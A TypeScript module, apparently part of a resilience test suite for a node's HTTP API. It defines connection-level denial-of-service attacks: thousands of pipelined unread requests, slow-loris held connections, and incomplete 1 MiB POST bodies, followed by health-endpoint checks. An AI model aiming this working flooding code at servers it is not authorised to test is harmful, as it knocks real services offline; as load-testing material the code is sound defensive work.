/** What connections can do apart from sending complete requests: be many, be slow, never read. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, tally } from './attack.ts';
import type { Target } from './target.ts';

const HOLD_MS = 3_000;

/** Opens so many, each sending this; all are gone when `work` is over. */
async function withSockets(
  target: Target,
  count: number,
  text: string,
  work: (sockets: readonly Socket[]) => Promise<string>,
): Promise<string> {
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(target.port, target.host, () => socket.write(text));
    socket.on('error', () => {});
    return socket;
  });
  try {
    return await work(sockets);
  } finally {
    for (const socket of sockets) socket.destroy();
  }
}

/** Reads nothing for a while, then counts who still has a connection. */
const idle = (target: Target, count: number, text: string): Promise<string> =>
  withSockets(target, count, text, async (sockets) => {
    for (const socket of sockets) socket.pause();
    await sleep(HOLD_MS);
    for (const socket of sockets) socket.resume();
    await sleep(200);
    return tally(sockets.map((socket) => (socket.destroyed ? 'closed' : 'open')));
  });

const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: h\r\n\r\n`;

/** `share`: of the numbers of the full form. */
export function connectionAttacks(share: number): Attack[] {
  const many = (full: number): number => Math.max(1, Math.round(full * share));
  const list = (target: Target): string => get(`/addresses/data/${target.owner}`);
  return [
    {
      name: '2: 300 pipelined requests for a long list, nothing read',
      send: (target) => idle(target, 1, list(target).repeat(300)),
    },
    {
      name: `${many(1000)} such connections`,
      send: (target) => idle(target, many(1000), list(target).repeat(30)),
    },
    {
      name: '10,000 pipelined requests for the height',
      send: (target) => idle(target, 1, get('/blocks/height').repeat(10_000)),
    },
    {
      name: `${many(1000)} readers that read nothing`,
      send: (target) => idle(target, many(1000), list(target)),
    },
    {
      name: `3: ${many(560)} bodies of which one byte comes`,
      async send(target) {
        const head =
          'POST /transactions/broadcast HTTP/1.1\r\nHost: h\r\nContent-Length: 500\r\n\r\n{';
        return withSockets(target, many(560), head, async () => {
          await sleep(HOLD_MS);
          const paths = ['/health/live', '/blocks/height', `/addresses/balance/${target.owner}`];
          const answers = await Promise.all(paths.map((path) => target.rest.get(path)));
          return tally(answers.map(({ status }) => status));
        });
      },
    },
    {
      name: `${many(200)} bodies of 1 MiB that miss their last byte`,
      send: (target) => {
        const head = `POST /utils/hash/fast HTTP/1.1\r\nHost: h\r\nContent-Length: ${1024 * 1024}\r\n\r\n`;
        return idle(target, many(200), head + 'x'.repeat(1024 * 1024 - 1));
      },
    },
  ];
}
